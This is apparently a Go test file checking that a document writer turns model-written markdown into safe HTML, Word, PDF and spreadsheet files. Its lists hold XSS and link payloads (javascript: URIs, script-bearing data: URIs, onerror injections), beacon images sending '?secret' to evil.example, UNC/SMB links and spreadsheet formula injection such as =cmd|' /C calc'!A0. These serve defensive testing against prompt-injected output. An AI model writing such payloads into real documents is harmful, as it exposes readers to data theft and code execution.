package write

import (
	"archive/zip"
	"bytes"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html/atom"

	nethtml "golang.org/x/net/html"
)

// hostile are links and pictures that a model may write, because a document told it to.
var hostile = []string{
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))",
	"[x](&#x6A;avascript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](\x01javascript:alert(1))",
	"<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "[x](vbscript:msgbox)",
	"[x](data:text/html,<script>alert(1)</script>)", "[x](data:image/svg+xml;base64,PHN2Zz4=)",
	"[x](file:///etc/passwd)", "[x](//evil.example/share)", `[x](\\\\evil.example\\share)`,
	"[x](ms-word:ofe|u|https://evil.example/x.docm)", "[x](search-ms:query=x&crumb=location:\\\\evil.example)",
	"[x](smb://evil.example/a)", "[x](ftp://evil.example/a)", "[x](relative/path.exe)", "[x](/etc/passwd)",
	"[x](C:/Windows/System32/calc.exe)", "[x](intent://x#Intent;end)", "[x](blob:https://x/1)",
	"![x](https://evil.example/beacon.png?secret)", "![x](//evil.example/b.png)",
	"[![x](https://evil.example/b.png)](https://good.example)", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
	"![x][p]\n\n[p]: https://evil.example/b.png", "![x](file://evil.example/b.png)",
	`<img src="https://evil.example/b.png">`, `<iframe src="https://evil.example"></iframe>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import url(https://evil.example/x.css)</style>`,
	`<div style="background:url(https://evil.example/b.png)">x</div>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
	`<script src="//evil.example/x.js"></script>`, `<a href="javascript:alert(1)">x</a>`,
	`<object data="https://evil.example"></object>`,
	`<form action="https://evil.example"><input type=image src=//evil.example/b></form>`,
	`<svg><image href="https://evil.example/b.png"/></svg>`,
	`<video poster="https://evil.example/b.png" src=//evil.example/v></video>`,
	"|a|\n|-|\n|![x](https://evil.example/t.png) [y](javascript:1)|",
	"# ![x](https://evil.example/h.png) [y](javascript:1)", "- [ ] ![x](https://evil.example/l.png)",
	"> ![x](https://evil.example/q.png) <javascript:x>", "~~[x](javascript:alert(1))~~",
	"`x` ![a](https://evil.example/\"onerror=\"alert(1))", "[x](https://good.example/\"onclick=\"alert(1))",
}

// kept are links that stay.
var kept = []string{
	"https://good.example/a?b=1&c=2", "http://good.example/", "mailto:ann@good.example",
	"tel:+4930123456", "HTTPS://GOOD.example/x",
}

// loads are the attributes with which a page makes requests, and ways to name an address.
var loads = []string{
	"src", "srcset", "poster", "data", "background", "action", "formaction", "ping", "manifest", "xlink:href",
	"cite", "longdesc", "archive", "codebase", "usemap", "profile",
}

// A page that is opened makes no request, and its links lead to the web, mail and telephone only.
func TestPageMakesNoRequest(t *testing.T) {
	for _, markdown := range hostile {
		page := made(t, "html", markdown)
		root, err := nethtml.Parse(bytes.NewReader(page))
		require.NoError(t, err)
		for n := range root.Descendants() {
			if n.Type != nethtml.ElementNode {
				continue
			}
			own := n.DataAtom == atom.Style || n.DataAtom == atom.Meta
			bad := []atom.Atom{
				atom.Script, atom.Iframe, atom.Link, atom.Base, atom.Object, atom.Embed, atom.Form, atom.Svg,
				atom.Video,
			}
			require.NotContains(t, bad, n.DataAtom, markdown)
			for _, a := range n.Attr {
				switch {
				case a.Key == "href":
					require.Regexp(t, `^(?i)(https?|mailto|tel):`, a.Val, markdown)
					require.NotContains(t, a.Val, "evil")
				case slices.Contains(loads, a.Key):
					require.Regexp(t, `^data:image/(png|jpeg|gif|webp);`, a.Val, markdown)
				}
				require.False(t, strings.HasPrefix(a.Key, "on"), markdown)
				require.False(t, !own && a.Key == "style" && strings.Contains(a.Val, "url"), markdown)
			}
		}
		require.Equal(t, 1, bytes.Count(page, []byte("<style>")), markdown)
		require.NotContains(t, string(page), "@import")
	}
}

// The relations of a Word document are all that it can load or open.
func TestLinksOfWord(t *testing.T) {
	target := regexp.MustCompile(`Target="([^"]*)" TargetMode="External"`)
	for _, markdown := range hostile {
		data := made(t, "docx", markdown)
		z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		require.NoError(t, err)
		for _, f := range z.File {
			in, err := f.Open()
			require.NoError(t, err)
			text, err := io.ReadAll(in)
			require.NoError(t, err)
			for _, m := range target.FindAllStringSubmatch(string(text), -1) {
				require.Regexp(t, `^(?i)(https?|mailto|tel):`, m[1], markdown)
				require.NotContains(t, m[1], "evil", markdown)
			}
			require.NotContains(t, string(text), "INCLUDEPICTURE")
			require.NotContains(t, string(text), "DDE")
		}
	}
}

func TestLinksOfAllFormats(t *testing.T) {
	for _, markdown := range hostile {
		data := string(made(t, "pdf", markdown))
		for _, m := range regexp.MustCompile(`/URI \(([^)]*)`).FindAllStringSubmatch(data, -1) {
			require.Regexp(t, `^(?i)(https?|mailto|tel):`, m[1], markdown)
			require.NotContains(t, m[1], "evil", markdown)
		}
		for _, action := range []string{"/JavaScript", "/Launch", "/SubmitForm", "/GoToR", "/ImportData"} {
			require.NotContains(t, data, action, markdown)
		}
	}
	var text strings.Builder
	for _, address := range kept {
		text.WriteString("[label](" + address + ")\n\n")
	}
	page, sheet := string(made(t, "html", text.String())), made(t, "docx", text.String())
	z, err := zip.NewReader(bytes.NewReader(sheet), int64(len(sheet)))
	require.NoError(t, err)
	rels, err := z.Open("word/_rels/document.xml.rels")
	require.NoError(t, err)
	word, err := io.ReadAll(rels)
	require.NoError(t, err)
	pdf := string(made(t, "pdf", text.String()))
	for _, address := range kept {
		escaped := strings.ReplaceAll(address, "&", "&amp;")
		require.Contains(t, page, `href="`+escaped+`"`)
		require.Contains(t, string(word), `Target="`+escaped+`"`)
		require.Contains(t, pdf, "("+address+")")
	}
}

// Pictures that are part of the text stay in a page, others are described.
func TestPicturesOfPages(t *testing.T) {
	page := string(made(t, "html",
		"![a *dot*](data:image/png;base64,iVBORw0KGgo=) and ![a **shoe**](https://x.example/s.png)"))
	require.Contains(t, page, `<img alt="a dot" src="data:image/png;base64,iVBORw0KGgo=">`)
	require.Contains(t, page, "and a <strong>shoe</strong>")
	require.Contains(t, page, `content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`)
}

// No cell of a sheet becomes a formula or a link.
func TestSheetsHaveNoFormulas(t *testing.T) {
	cells := []string{
		`=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example","x")`, `=IMAGE("https://evil.example/b.png")`,
		`@SUM(1)`, `+1+cmd`, `-1+cmd`, "[x](javascript:1)", "![x](https://evil.example/b.png)",
	}
	data := made(t, "xlsx", "|a|\n|-|\n|"+strings.Join(cells, "|\n|")+"|\n")
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	for _, f := range z.File {
		in, err := f.Open()
		require.NoError(t, err)
		text, err := io.ReadAll(in)
		require.NoError(t, err)
		require.NotContains(t, string(text), "<f>", f.Name)
		require.NotContains(t, string(text), "<hyperlink", f.Name)
		require.NotContains(t, string(text), `TargetMode="External"`, f.Name)
	}
}
